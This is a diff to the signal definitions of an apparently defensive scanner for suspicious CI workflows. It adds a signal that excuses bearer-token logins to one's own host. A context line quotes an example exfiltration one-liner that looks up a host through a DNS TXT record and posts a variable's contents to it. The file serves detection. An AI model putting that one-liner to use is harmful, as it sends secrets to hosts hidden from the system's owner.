@@ -117,6 +117,7 @@ signals! {
     UnknownDestination = "unknown-destination", Place, "Where it goes is only known when it runs: the host comes out of a file, a command or another machine's answer: `H=$(dig +short TXT c.example); curl -d \"$T\" \"https://$H/\"`.";
     OutsidersCommands = "outsiders-commands", Hiding, "On a machine of the owner's own, a job does nothing but run text that any outsider may write.";
     DateConflict = "date-conflict", Weak, "Author's and committer's time, or two sources of a time, differ by more than 24 hours.";
+    LoginOnly = "login-only", Excuse, "One credential is the login to the host, by https, and its name speaks against nothing: that is how people reach their own servers. `curl -H \"Authorization: Bearer $DEPLOY_TOKEN\" https://ci.widgets.example/deploy`.";
     WritesWorkflow = "writes-workflow", Hiding, "A workflow writes a workflow.";
     RegistersRunner = "registers-runner", Hiding, "A workflow registers a runner.";
 }
